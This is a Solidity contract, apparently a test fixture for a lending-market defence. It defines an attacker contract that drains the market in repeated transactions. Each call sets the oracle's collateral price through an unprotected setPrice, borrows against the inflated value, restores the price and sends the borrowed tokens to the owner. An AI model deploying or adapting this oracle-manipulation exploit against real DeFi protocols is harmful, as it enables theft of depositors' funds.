// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.26;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface IQuotes {
    function price(address asset) external view returns (uint256);
    function setPrice(address asset, uint256 newPrice) external;
}

interface IMarket {
    function collateral() external view returns (address);
    function debtAsset() external view returns (address);
    function oracle() external view returns (address);
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
}

/// @notice A patient attacker: drains the lending market through the open oracle in chunks, one
///         transaction each, so that a defence reacting to the first one must cut off the rest.
contract ChunkDrainer {
    address private immutable _owner;

    constructor() {
        _owner = msg.sender;
    }

    function drain(address market, uint256 collateralAmount, uint256 amount) external {
        require(msg.sender == _owner, "owner");
        IMarket m = IMarket(market);
        IQuotes quotes = IQuotes(m.oracle());
        address col = m.collateral();
        uint256 quoted = quotes.price(col);
        quotes.setPrice(col, amount * 2e18 / collateralAmount + 1);
        IToken(col).approve(market, collateralAmount);
        m.depositCollateral(collateralAmount);
        m.borrow(amount);
        quotes.setPrice(col, quoted);
        IToken debt = IToken(m.debtAsset());
        debt.transfer(_owner, debt.balanceOf(address(this)));
    }
}
